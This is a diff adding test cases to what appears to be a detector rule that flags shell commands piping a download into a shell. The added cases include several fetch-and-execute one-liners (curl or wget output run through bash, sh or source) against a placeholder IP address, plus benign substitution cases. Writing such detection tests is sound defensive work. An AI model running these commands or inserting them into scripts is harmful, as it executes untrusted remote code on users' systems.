@@ -83,6 +83,11 @@ describe('a download piped into a shell (MLS-RAY-012)', () => {
       'curl -s http://203.0.113.7/p.py | python3 -',
       'cd /tmp && curl -s http://203.0.113.7/r.sh | sh',
       'echo http://203.0.113.7/r.sh | xargs curl -s | sh',
+      // Fetched and run through a substitution: the installer idioms.
+      'bash -c "$(curl -fsSL https://203.0.113.7/install.sh)"',
+      '$(wget -qO- http://203.0.113.7/r.sh)',
+      'bash <(curl -s http://203.0.113.7/r.sh)',
+      'source <(curl -s http://203.0.113.7/env.sh)',
     ]) {
       expect(ids(['sh', '-c', script]), script).toContain('MLS-RAY-012');
     }
@@ -104,6 +109,10 @@ describe('a download piped into a shell (MLS-RAY-012)', () => {
       'curl -s http://203.0.113.7/r.sh | sh -ec cat',
       'curl -s http://203.0.113.7/k | ssh host cat',
       'echo "curl -s http://203.0.113.7/r.sh" | grep -c sh',
+      // A substitution whose output is data, not a script.
+      'echo "$(curl -s http://203.0.113.7/health)"',
+      'diff <(curl -s http://203.0.113.7/a) <(curl -s http://203.0.113.7/b)',
+      'v=$(curl -s http://203.0.113.7/v); echo $v',
     ]) {
       expect(ids(['sh', '-c', script]), script).not.toContain('MLS-RAY-012');
     }
